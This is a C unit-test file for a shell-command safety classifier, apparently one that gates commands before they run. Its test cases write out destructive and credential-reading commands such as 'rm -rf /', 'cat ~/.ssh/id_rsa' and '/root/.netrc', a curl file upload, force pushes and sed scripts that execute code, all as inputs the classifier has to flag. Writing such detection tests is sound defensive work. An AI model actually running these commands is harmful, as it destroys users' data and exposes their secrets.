/* What is known of single commands: that the tables and the front's words agree, how options are
 * read, what sed's scripts may be, and what holds without a context. */
#include "base/cleanup.h"
#include "gate/classify.h"
#include "gate/classify_internal.h"
#include "gate/words.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

static char *const roots[] = {"/w", "/cache", NULL};
static const struct classify_context at_work = {
	.directory = "/w", .home = "/home/me", .writable_roots = roots};

/* The gravest class of any part of the line, and its id. */
static struct classification classify_line(const char *line, const struct classify_context *context)
{
	const struct analysis_context files = {.directory = "/w"};
	struct analysis *analysis;
	assert_int_equal(analyze_shell(line, strlen(line), &files, &analysis), 0);
	if (analysis->syntax.errno_value)
		fail_msg("%s: %s", line, analysis->syntax.message);
	struct classification gravest = {.id = "nothing"};
	for (size_t i = 0; i < analysis->count; i++) {
		struct classification one;
		classify_part(analysis, i, context, &one);
		if (i == 0 || one.class > gravest.class)
			gravest = one;
	}
	analysis_free(analysis);
	return gravest;
}

static void expect(const char *line, enum command_class class, const char *id)
{
	struct classification known = classify_line(line, &at_work);
	if (known.class != class || strcmp(known.id, id) != 0)
		fail_msg("%s: class %d, %s (%s)", line, known.class, known.id, known.reason);
}

struct looked_at {
	unsigned programs, passed;
};

/* A program of the tables that the front lets pass without a look is safe whatever stands behind
 * it. */
static void is_harmless_or_looked_at(const char *name, void *data)
{
	struct looked_at *count = data;
	static const char *const arguments[] = {"", "-rf /", "--output=/etc/x -o /etc/x -i",
		"-exec rm", "~/.ssh/id_rsa .env", "https://x.example @x", "-c 'rm -rf ~'"};
	count->programs++;
	if (word_needs_a_look(name))
		return;
	for (size_t i = 0; i < ARRAY_SIZE(arguments); i++) {
		char line[128];
		snprintf(line, sizeof(line), "%s %s", name, arguments[i]);
		struct classification known = classify_line(line, &at_work);
		if (known.class != CLASS_SAFE)
			fail_msg("%s: %s", line, known.reason);
	}
	count->passed++;
}

static void the_front_looks_at_every_program_that_could_do_harm(void **state)
{
	(void)state;
	struct looked_at count = {0};
	classify_programs(is_harmless_or_looked_at, &count);
	assert_true(count.programs > 500);
	assert_true(count.passed > 40);
}

static void names_in_disguise_need_a_look(void **state)
{
	(void)state;
	assert_true(word_needs_a_look("g\xd1\x96t"));
	assert_true(word_needs_a_look("l\ns"));
	assert_true(word_needs_a_look("mkfs.ext4"));
	assert_false(word_needs_a_look("frobnicate"));
}

static void options_are_read_as_getopt_does(void **state)
{
	(void)state;
	expect("rm -rf src", CLASS_DANGEROUS, "delete-recursive");
	expect("rm -fr src", CLASS_DANGEROUS, "delete-recursive");
	expect("rm -vfr src", CLASS_DANGEROUS, "delete-recursive");
	expect("rm src -r", CLASS_DANGEROUS, "delete-recursive");
	expect("rm --recursive src", CLASS_DANGEROUS, "delete-recursive");
	expect("rm --recurs src", CLASS_DANGEROUS, "delete-recursive");
	expect("rm -f -- -r", CLASS_ORDINARY, "ordinary");
	expect("rm -f ./-r", CLASS_ORDINARY, "ordinary");
	/* -o takes the next word, which is then no option, nor an address. */
	expect("curl -o -d https://x.example", CLASS_ORDINARY, "uses-network");
	expect("curl -sd @x https://x.example", CLASS_DANGEROUS, "send-file");
	expect("curl -sd@x https://x.example", CLASS_DANGEROUS, "send-file");
	expect("curl --data=@x https://x.example", CLASS_DANGEROUS, "send-file");
	expect("git -C x -c a.b=c push --force", CLASS_DANGEROUS, "git-force-push");
	expect("git push origin --delete x", CLASS_DANGEROUS, "git-push-delete");
	expect("tar -xvPf a.tar", CLASS_DANGEROUS, "tar-absolute");
	expect("tar -xf P", CLASS_ORDINARY, "ordinary");
}

static void long_options_of_safe_commands_are_compared_whole(void **state)
{
	(void)state;
	expect("sort --reverse x", CLASS_SAFE, "safe");
	expect("sort --rev x", CLASS_ORDINARY, "ordinary");
	expect("sort --outp=x y", CLASS_ORDINARY, "ordinary");
	expect("git diff --outp=x", CLASS_ORDINARY, "ordinary");
	expect("rg --new-option x", CLASS_ORDINARY, "ordinary");
}

static void words_that_may_become_options_are_not_safe(void **state)
{
	(void)state;
	expect("ls *", CLASS_SAFE, "safe");
	expect("wc -l \"$x\"", CLASS_SAFE, "safe");
	expect("sort *", CLASS_ORDINARY, "ordinary");
	expect("sort src/*.c", CLASS_SAFE, "safe");
	expect("sort \"$x\"", CLASS_ORDINARY, "ordinary");
	expect("find $x", CLASS_UNDECIDABLE, "undecidable");
	expect("git log $x", CLASS_ORDINARY, "ordinary");
}

static void scripts_of_sed(void **state)
{
	(void)state;
	static const char *const harmless[] = {"p", "1,5p", "$p", "/a/,/b/p", "5q", "1~2p", "=",
		"s/a/b/", "s/a/b/g2", "s|a|b|I", "y/ab/cd/", "/a/{p;d}", "/a/!d", "s/[a-z]/x/g",
		"s/[[:space:]]*$//", "1d;2p", "\\,a,p", "/a/I,+3p", "s/\\//x/", "1{/a/p}"};
	static const char *const not_known[] = {"e", "1e id", "s/a/b/e", "s/a/b/ge", "w x",
		"s/a/b/w x", "r x", "R x", "W x", "s/[/]/e/e", "s/[]/]/x/e", "e id;p", "p;e id",
		"$e", "/a/e", "s/a/b", "s\\a\\b\\", "a text", "/a", "s/a\nb/c/", "y/a/b/e", "1,e",
		"v", "F;e", "s/a/b/;e id", "s/a/b/\ne id", "}e", "p e", "s/a/b/ e", "q1e",
		":a;e;ba"};
	for (size_t i = 0; i < ARRAY_SIZE(harmless); i++)
		if (!sed_script_is_safe(harmless[i]))
			fail_msg("sed '%s' is not taken for safe", harmless[i]);
	for (size_t i = 0; i < ARRAY_SIZE(not_known); i++)
		if (sed_script_is_safe(not_known[i]))
			fail_msg("sed '%s' is taken for safe", not_known[i]);
}

static void paths_are_seen_from_where_the_command_runs(void **state)
{
	(void)state;
	expect("touch x", CLASS_ORDINARY, "ordinary");
	expect("touch /w/../etc/x", CLASS_DANGEROUS, "write-outside");
	expect("cd /etc && touch x", CLASS_DANGEROUS, "write-outside");
	expect("cd /etc; cd /w; touch x", CLASS_DANGEROUS, "write-outside");
	expect("cd src && cd .. && touch x", CLASS_ORDINARY, "ordinary");
	expect("cd a && cd b && touch ../x", CLASS_ORDINARY, "ordinary");
	expect("cd a && touch ../../x", CLASS_DANGEROUS, "write-outside");
	expect("cd \"$x\" && touch x", CLASS_UNDECIDABLE, "write-unknown");
	expect("popd; touch x", CLASS_UNDECIDABLE, "write-unknown");
	expect("cd -; rm -rf build", CLASS_DANGEROUS, "delete-unknown");
	expect("cd; touch x", CLASS_DANGEROUS, "write-outside");
	expect("cp x /cache/y", CLASS_ORDINARY, "ordinary");
	expect("env -C / touch x", CLASS_UNDECIDABLE, "write-unknown");
	expect("env -C / ls; touch x", CLASS_ORDINARY, "ordinary");
}

static void many_directories_end_in_doubt_and_not_in_trust(void **state)
{
	(void)state;
	char line[512] = "";
	for (int i = 0; i < 20; i++)
		snprintf(line + strlen(line), sizeof(line) - strlen(line), "cd /tmp/%d; ", i);
	strcat(line, "rm -rf build");
	expect(line, CLASS_DANGEROUS, "delete-unknown");
}

static void without_a_context_less_is_known_and_nothing_breaks(void **state)
{
	(void)state;
	static const char *const lines[] = {"rm -rf ~", "cat ~/.ssh/id_rsa", "echo x > out",
		"cd && touch x", "rm -rf /", "cat .env", "git status", "echo x > ~/.bashrc"};
	const struct classify_context nothing = {0};
	for (size_t i = 0; i < ARRAY_SIZE(lines); i++) {
		struct classification known = classify_line(lines[i], &nothing);
		assert_non_null(known.id);
		assert_non_null(known.reason);
	}
	assert_int_equal(classify_line("rm -rf src", &nothing).class, CLASS_DANGEROUS);
	assert_int_equal(classify_line("git push -f", &nothing).class, CLASS_DANGEROUS);
}

static void other_homes_are_homes_too(void **state)
{
	(void)state;
	expect("cat /home/you/.ssh/id_rsa", CLASS_DANGEROUS, "read-secret");
	expect("cat /root/.netrc", CLASS_DANGEROUS, "read-secret");
	expect("cat /home/me/../you/.aws/credentials", CLASS_DANGEROUS, "read-secret");
	expect("echo x > /root/.bashrc", CLASS_DANGEROUS, "shell-startup");
	expect("rm -rf /home/you", CLASS_FORBIDDEN, "delete-vital");
	expect("rm -rf /home/you/", CLASS_FORBIDDEN, "delete-vital");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_front_looks_at_every_program_that_could_do_harm),
		cmocka_unit_test(names_in_disguise_need_a_look),
		cmocka_unit_test(options_are_read_as_getopt_does),
		cmocka_unit_test(long_options_of_safe_commands_are_compared_whole),
		cmocka_unit_test(words_that_may_become_options_are_not_safe),
		cmocka_unit_test(scripts_of_sed),
		cmocka_unit_test(paths_are_seen_from_where_the_command_runs),
		cmocka_unit_test(many_directories_end_in_doubt_and_not_in_trust),
		cmocka_unit_test(without_a_context_less_is_known_and_nothing_breaks),
		cmocka_unit_test(other_homes_are_homes_too),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
